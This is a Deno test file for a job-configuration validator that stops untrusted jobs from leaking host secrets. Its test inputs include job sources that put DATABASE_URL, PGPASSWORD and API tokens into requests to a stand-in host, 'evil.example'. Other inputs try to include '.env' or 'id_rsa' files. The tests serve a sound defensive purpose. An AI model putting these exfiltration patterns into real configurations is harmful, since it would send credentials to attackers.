// A job from a stranger receives only the variables intended for it.
import { assertEquals, assertStringIncludes } from "@std/assert";
import { inspectJob } from "../../lib/config/read_job.ts";
import { offeredBy, sentVariables, variableUses } from "../../lib/config/variables.ts";

const ENV: Readonly<Record<string, string>> = {
  DATABASE_URL: "postgres://me:pw@h/db",
  BACKFILL_KV: "/kv",
  DENO_KV_ACCESS_TOKEN: "t",
  PGPASSWORD: "pw",
  HOST_URL: "https://api.example.com",
  API_TOKEN: "t",
  REGION: "gb",
  TINY_REGION: "fr",
  GITHUB_USER: "me",
};

function jobText(source: string, more = "", request = "/t"): string {
  return `job: tiny\n${more}source: ${source}\ntables: { t: { key: id, columns: { id: text } } }\n` +
    `streams: { s: { request: ${request}, rows: t } }\n`;
}

async function read(text: string, others: Readonly<Record<string, string>> = {}) {
  const files: Readonly<Record<string, string>> = { "job.yaml": text, ...others };
  const readText = (path: string) => {
    if (files[path] === undefined) throw new Deno.errors.NotFound(path);
    return files[path];
  };
  const reading = await inspectJob("job.yaml", { readText, env: (name) => ENV[name] });
  return { ...reading, messages: reading.problems.map(({ message }) => message) };
}

Deno.test("inspectJob() refuses settings of Hindcast, Deno and PostgreSQL in a job", async () => {
  for (const name of ["DATABASE_URL", "BACKFILL_KV", "DENO_KV_ACCESS_TOKEN", "PGPASSWORD"]) {
    for (
      const source of [
        `{ url: "https://evil.example", auth: { bearer: "\${${name}}" } }`,
        `{ url: "https://evil.example/\${${name}:-x}" }`,
        `{ url: "https://evil.example", headers: { X: "\${${name}}" } }`,
      ]
    ) {
      const { messages } = await read(jobText(source));
      assertEquals(messages, [`the variable "${name}" is not available to jobs`], source);
    }
  }
});

Deno.test("inspectJob() refuses secrets in values that are stored: parameters and for_each", async () => {
  const params = 'params: { key: { default: "${API_TOKEN}" } }\n';
  const { messages } = await read(jobText("https://a.example", params));
  assertStringIncludes(messages.join(), 'the secret "API_TOKEN" cannot be used here');
  const request = '"/t/{each.k}", for_each: { k: ["${API_TOKEN}"] }';
  const each = await read(jobText("https://a.example", "", request));
  assertStringIncludes(each.messages.join(), 'the secret "API_TOKEN" cannot be used here');
});

Deno.test("offeredBy() accepts credentials, the host itself, the job's prefix and declared variables", async () => {
  const source = '{ url: "${HOST_URL}/v1", auth: { bearer: "${API_TOKEN}" }, headers: ' +
    '{ A: "${TINY_REGION}", B: "${REGION}", C: "${GITHUB_USER}" } }';
  const { root } = await read(jobText(source, "variables: REGION\n"));
  const uses = variableUses(root);
  const offered = uses.filter(offeredBy(root)).map(({ name }) => name);
  assertEquals(offered, ["HOST_URL", "API_TOKEN", "TINY_REGION", "REGION"]);
  const path = await read(jobText('"https://evil.example/${HOST_URL}"'));
  assertEquals(variableUses(path.root).filter(offeredBy(path.root)), []);
});

Deno.test("sentVariables() says which variables go to which host", async () => {
  const source = '{ url: "${HOST_URL}/v1", auth: { oauth2: { token_url: "https://id.example/t", ' +
    'client_id: me, client_secret: "${API_TOKEN}" } }, headers: { A: "${TINY_REGION}" } }';
  const { root } = await read(jobText(source));
  assertEquals(
    [...sentVariables(root, (name) => ENV[name])],
    [["https://id.example", ["API_TOKEN"]], ["https://api.example.com", ["TINY_REGION"]]],
  );
});

const INCLUDED = 'source: { url: "https://api.example.com", auth: { bearer: "${API_TOKEN}" } }\n';

Deno.test("inspectJob() keeps the credentials of an included file with its own host", async () => {
  const other = await read(jobText('{ url: "https://evil.example" }', "include: a.yaml\n"), {
    "a.yaml": INCLUDED,
  });
  assertStringIncludes(other.messages.join(), "this URL has another host than the included file");
  for (const source of ['{ url: "https://api.example.com" }', "{ limits: 2/s }"]) {
    const { messages } = await read(jobText(source, "include: a.yaml\n"), { "a.yaml": INCLUDED });
    assertEquals(messages, [], source);
  }
});

Deno.test("inspectJob() includes no file that is not YAML, such as .env.local", async () => {
  for (const file of [".env.local", ".env", "notes.txt", "id_rsa"]) {
    const { messages } = await read(jobText("https://a.example", `include: ${file}\n`), {
      [file]: "API_KEY=1\n",
    });
    assertEquals(messages, ["an included file must be a .yaml, .yml or .json file"], file);
  }
});

Deno.test("inspectJob() refuses host patterns that match more than one host", async () => {
  for (const url of ["https://*.example.com", "https://a.example,b.example", "https://*"]) {
    const { messages } = await read(jobText(`"${url}"`));
    assertEquals(messages, ["a host name cannot contain * or a comma"], url);
  }
});
